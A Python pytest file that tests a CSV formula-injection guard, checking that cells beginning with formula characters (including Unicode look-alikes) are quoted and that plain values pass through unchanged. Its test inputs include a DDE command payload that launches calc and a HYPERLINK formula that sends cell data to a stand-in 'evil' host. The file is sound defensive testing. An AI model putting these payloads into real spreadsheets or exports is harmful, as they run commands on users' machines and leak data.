"""The one CSV formula guard (pointsmall.kernel.csv), used by every CSV export: the dashboard's,
the orders export and the lottery's reports."""

from __future__ import annotations

from decimal import Decimal

import pytest

from pointsmall.kernel.csv import csv_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\tplain",  # a leading tab or return is quoted whatever follows
        " =1+1",
        "   +cmd|' /C calc'!A0",
        "\n=1+1",
        "\r\n@x",
        "\x0b-1",
        "\u3000=1+1",  # an ideographic space
        "\u200b=1+1",  # a zero-width space
        "\ufeff=1+1",  # a BOM
        "＝1+1",  # full-width signs, folded
        "＋1",
        '=HYPERLINK("http://evil/?x="&A1,"click")',
    ],
)
def test_a_text_a_spreadsheet_could_run_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["ok", "保温杯", "a=b", "1+1", "", "   ", "\n", "|calc", 5, -5, 2.5, Decimal("-1.5"), None]
)
def test_everything_else_is_unchanged(value):
    assert csv_cell(value) == value
